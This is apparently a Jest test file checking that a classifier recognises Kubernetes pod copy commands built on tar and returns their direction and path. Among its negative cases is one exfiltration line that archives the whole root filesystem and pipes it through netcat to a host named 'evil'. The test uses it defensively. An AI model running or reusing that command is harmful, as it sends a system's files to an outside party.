import { expect, it } from '@jest/globals';
import { classifyCopy } from './classify-copy.ts';

it.each([
  [['tar', 'cf', '-', '/etc/a b'], { direction: 'from-pod', path: '/etc/a b' }],
  [['sh', '-c', 'tar cf - /var/log | tail -c+4096'], { direction: 'from-pod', path: '/var/log' }],
  [['tar', '-xmf', '-', '-C', '/tmp'], { direction: 'to-pod', path: '/tmp' }],
  [['tar', 'xmf', '-', '-C', '/tmp'], { direction: 'to-pod', path: '/tmp' }],
  [['tar', '--no-same-permissions', '--no-same-owner', '-xmf', '-', '-C', '/tmp'], { direction: 'to-pod', path: '/tmp' }],
  [['tar', '-xmf', '-'], { direction: 'to-pod', path: '.' }],
  [['test', '-d', '/tmp'], undefined],
  [['tar', 'czf', '-', '/etc'], undefined],
  [['tar', 'cf', '-', '/etc', '/var'], undefined],
  [['tar', '-xmf', '-', '-C', '/tmp', 'x'], undefined],
  [['tar', 'cf', '/tmp/x.tar', '/etc'], undefined],
  [['tar'], undefined],
  [['sh', '-c', 'tar cf - / | nc evil 1'], undefined],
  [[], undefined],
])('%j is %j', (command, copy) => expect(classifyCopy(command)).toEqual(copy));
